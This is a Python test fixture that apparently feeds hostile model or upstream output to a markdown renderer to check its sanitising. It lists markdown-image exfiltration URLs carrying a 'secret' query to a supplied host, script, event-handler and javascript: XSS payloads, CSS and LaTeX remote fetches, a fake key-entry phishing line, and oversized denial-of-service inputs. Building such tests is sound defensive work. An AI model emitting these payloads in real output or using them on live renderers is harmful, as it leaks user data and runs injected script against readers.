"""Everything a hostile model, upstream or title could say."""

from __future__ import annotations


def texts(host: str) -> list[str]:
    """Each of them wants something from `host`, or to run, or to be taken for ours."""
    return [
        f"![inline]({host}/1.png?d=secret)",
        f"![ref][r]\n\n[r]: {host}/2.png",
        f"| a | b |\n|---|---|\n| ![cell]({host}/3.png) | `a|b` `![x]({host}/4.png)` |",
        f"[![nested]({host}/5.png)]({host}/link)",
        f'<img src="{host}/6.png" onerror="alert(6)"><script>alert(7)</script><svg onload=alert(8)>',
        f"<iframe srcdoc=\"<img src='{host}/9.png'>\"></iframe><style>body{{background:url({host}/10.png)}}</style>",
        f'<form action="{host}/11"><input name=x autofocus onfocus=alert(11)></form>',
        "![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
        "[click](javascript:alert(12)) [tab](java\tscript:alert(13)) [entity](&#106;avascript:alert(14))",
        "[d](data:text/html,x)",
        f"$\\includegraphics{{{host}/15.png}}$ $\\def\\a{{\\a\\a}}\\a$ $x^2$ and prices from $5 to $10",
        ":red[Session expired], enter your key: :material/lock: :streamlit: ::leaf[x]{a=b} std::vector[int]",
        f"a ` b\nc ` ![x]({host}/16.png) `d`",
        f"- ```\n![x]({host}/17.png)\n",
        f"http://a.b/` ![x]({host}/18.png) `",
        f"<!--\n```\n-->\n![x]({host}/19.png)\n```",
        f"    code\n![x]({host}/20.png)",
        f"```\n![in code]({host}/21.png) <b>&amp; :red[x]\n```",
        f"@import url({host}/22.css) [stylesheet]({host}/23.css)",
        "> " * 10_000 + "deep",
        "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 10_000,
        "```\n" + "x" * 1_000_000 + "\n```",
    ]
